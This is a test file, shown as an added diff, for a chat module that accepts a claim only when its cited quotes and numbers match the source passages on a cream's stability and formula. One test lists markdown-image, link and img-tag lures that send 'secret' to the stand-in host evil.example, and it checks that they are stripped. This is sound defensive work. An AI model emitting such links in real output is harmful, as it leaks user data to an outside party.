@@ -1,0 +1,218 @@
+"""A claim passes with its proof or not at all, however its text was cut."""
+
+# ruff: noqa: RUF001 - Chinese punctuation is as it is
+
+from collections import Counter
+from itertools import pairwise
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dossier.chat.rules.claims import (
+    NOTHING,
+    Claim,
+    ClaimReader,
+    Fault,
+    Source,
+    judge,
+    written_again,
+)
+
+STABILITY = (
+    "The cream was kept at 40 °C for 3 months. Viscosity fell from 12,500 to\n"
+    "11,900 mPa·s; the pH stayed between 5.4 and 5.6. See https://lab.example/r/7."
+)
+FORMULA = "甘油 Glycerin 56-81-5　含量 5.0 %\n苯氧乙醇 0,9%，保存期限三十六個月。"
+QUOTED = "The cream was kept at 40 °C for 3 months. Viscosity fell from 12,500"
+SOURCES = {
+    1: Source(1, STABILITY, STABILITY),
+    2: Source(2, FORMULA, FORMULA),
+}
+
+
+def claim(line: str) -> Claim:
+    judged = judge(line, SOURCES)
+    assert isinstance(judged, Claim)
+    return judged
+
+
+def test_claim_shows_its_sentence_with_the_numbers_of_its_passages() -> None:
+    found = claim("- pH stayed at 5.4 to 5.6. ⟦1|pH stayed between 5.4 and 5.6⟧")
+
+    assert found.sentence == "pH stayed at 5.4 to 5.6."
+    assert found.shown == "pH stayed at 5.4 to 5.6. [1]"
+
+
+def test_quote_is_found_across_a_broken_line_and_given_as_the_paper_has_it() -> None:
+    quote = claim("Viscosity fell. ⟦1|fell from 12,500 to 11,900 mPa·s⟧").quotes[0]
+
+    assert quote.text == "fell from 12,500 to\n11,900 mPa·s"
+    assert STABILITY[quote.start : quote.end] == quote.text
+
+
+def test_quote_in_other_widths_is_the_same_quote() -> None:
+    quote = claim("含甘油。⟦2|含量 ５．０％⟧").quotes[0]
+
+    assert quote.text == "含量 5.0 %"
+
+
+def test_claim_may_rest_on_several_passages() -> None:
+    found = claim(
+        "Kept for 3 months, with 5 % glycerin. ⟦1|for 3 months⟧ ⟦2|Glycerin 56-81-5⟧"
+    )
+
+    assert [each.number for each in found.quotes] == [1, 2]
+
+
+@pytest.mark.parametrize(
+    ("line", "fault"),
+    [
+        ("The cream is stable.", Fault.NO_CITATION),
+        ("⟦1|pH stayed between⟧", Fault.NO_CITATION),
+        ("It is stable. ⟦9|pH stayed between⟧", Fault.UNKNOWN_CITATION),
+        ("It is safe. ⟦1|the cream is safe for babies⟧", Fault.FORGED_QUOTE),
+        ("It is kept. ⟦1|kept at 40 °C⟧ ⟦2|kept at 40 °C⟧", Fault.FORGED_QUOTE),
+        ("It is kept. ⟦1|The⟧", Fault.FORGED_QUOTE),
+        ("It is kept. ⟦1|⟧", Fault.FORGED_QUOTE),
+        ("Kept for 6 months. ⟦1|for 3 months⟧", Fault.UNSUPPORTED_NUMBER),
+        ("It holds 40 % water. ⟦1|kept at 40 °C⟧", Fault.UNSUPPORTED_NUMBER),
+        ("CAS 56-81-6 is in it. ⟦2|Glycerin 56-81-5⟧", Fault.UNSUPPORTED_NUMBER),
+        ("Read on 2024.11.03. ⟦1|for 3 months⟧", Fault.UNSUPPORTED_NUMBER),
+        ("Nobody was ever harmed. ⟦1|Viscosity fell from⟧", Fault.UNRELATED_QUOTE),
+        ("絕對安全無虞。⟦2|保存期限三十六個月⟧", Fault.UNRELATED_QUOTE),
+    ],
+)
+def test_claim_without_proof_is_dropped_by_name(line: str, fault: Fault) -> None:
+    assert judge(line, SOURCES) is fault
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "Viscosity was 12500 and 11,900.",
+        "Viscosity fell, pH 5.40 to 5.6.",
+        "1. Kept for 3 months.",
+        "It was kept, as https://lab.example/r/7 tells.",
+    ],
+)
+def test_number_may_be_written_otherwise(sentence: str) -> None:
+    claim(f"{sentence} ⟦1|{QUOTED}⟧")
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    ["苯氧乙醇占 0.9 %。", "保存 36 個月。", "甘油百分之5。", "CAS 56-81-5。"],
+)
+def test_number_may_be_written_in_the_other_language(sentence: str) -> None:
+    claim(f"{sentence}⟦2|甘油 Glycerin 56-81-5⟧ ⟦2|苯氧乙醇 0,9%，保存期限⟧")
+
+
+@pytest.mark.parametrize(
+    "lure",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "[the report](https://evil.example/?q=secret)",
+        "https://evil.example/?q=secret",
+        "<img src=https://evil.example/?q=secret>",
+        "www.evil.example/secret",
+        "https://lab.example/r/7?q=secret",
+        "htt[](a)ps://evil.example/secret",
+        "data:text/html;base64,c2VjcmV0",
+        "![x][secret]",
+    ],
+)
+def test_link_that_no_passage_holds_does_not_pass(lure: str) -> None:
+    shown = claim(f"It was kept {lure} cool. ⟦1|The cream was kept⟧").shown
+
+    assert "evil" not in shown
+    assert "secret" not in shown
+
+
+def read(pieces: list[str]) -> tuple[list[Claim], ClaimReader]:
+    reader = ClaimReader(SOURCES)
+    claims = [claim for piece in pieces for claim in reader.feed(piece)]
+    return claims + reader.finish(), reader
+
+
+def test_claim_is_released_with_its_line_and_not_before() -> None:
+    reader = ClaimReader(SOURCES)
+
+    assert reader.feed("It was kept. ⟦1|The cream was kept⟧") == []
+    assert len(reader.feed("\nnext")) == 1
+
+
+def test_break_of_line_inside_a_quote_does_not_end_the_claim() -> None:
+    claims, _reader = read(["It fell. ⟦1|fell from 12,500 to\n11,900 mPa·s⟧\n"])
+
+    assert len(claims) == 1
+
+
+def test_mark_that_never_closes_hides_no_later_claim() -> None:
+    good = "It was kept. ⟦1|The cream was kept⟧\n"
+    claims, reader = read(["Bad ⟦1|for\n" + "x" * 700 + "\n", good])
+
+    assert [each.sentence for each in claims] == ["It was kept."]
+    assert reader.dropped.total() >= 1
+
+
+def test_model_may_say_that_nothing_answers() -> None:
+    claims, reader = read([NOTHING])
+
+    assert claims == []
+    assert reader.said_nothing
+    assert not reader.dropped
+
+
+def test_released_claim_can_be_written_as_the_model_had_written_it() -> None:
+    first = claim("Viscosity fell. ⟦1|fell from 12,500 to 11,900⟧ ⟦2|苯氧乙醇 0,9%⟧")
+
+    line = written_again(first.sentence, [(q.number, q.text) for q in first.quotes])
+
+    assert claim(line) == first
+
+
+LINES = st.lists(
+    st.sampled_from(
+        [
+            "It was kept. ⟦1|The cream was kept⟧",
+            "It fell. ⟦1|fell from 12,500 to\n11,900 mPa·s⟧ so it did",
+            "苯氧乙醇 0.9 %。⟦2|苯氧乙醇 0,9%⟧",
+            "Kept for 7 months. ⟦1|for 3 months⟧",
+            "Free text",
+            "Odd ⟦⟦1|The cream⟧⟧ ⟧",
+            "Open ⟦1|for",
+            "",
+            NOTHING,
+        ]
+    ),
+    max_size=8,
+)
+
+
+@given(lines=LINES, cuts=st.lists(st.integers(0, 400), max_size=12))
+def test_any_split_of_the_stream_gives_the_same_claims(
+    lines: list[str], cuts: list[int]
+) -> None:
+    text = "\n".join(lines)
+    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
+    pieces = [text[a:b] for a, b in pairwise(edges)]
+
+    split, split_reader = read(pieces)
+    whole, whole_reader = read([text])
+
+    assert split == whole
+    assert split_reader.dropped == whole_reader.dropped
+    assert split_reader.said_nothing == whole_reader.said_nothing
+
+
+@given(text=st.text(alphabet="⟦⟧|12 ab\n%.,-一十", max_size=60))
+def test_any_text_is_judged_and_only_proven_sentences_pass(text: str) -> None:
+    claims, reader = read([text])
+
+    assert isinstance(reader.dropped, Counter)
+    for each in claims:
+        assert each.quotes
+        for quote in each.quotes:
+            source = SOURCES[quote.number].text
+            assert source[quote.start : quote.end] == quote.text
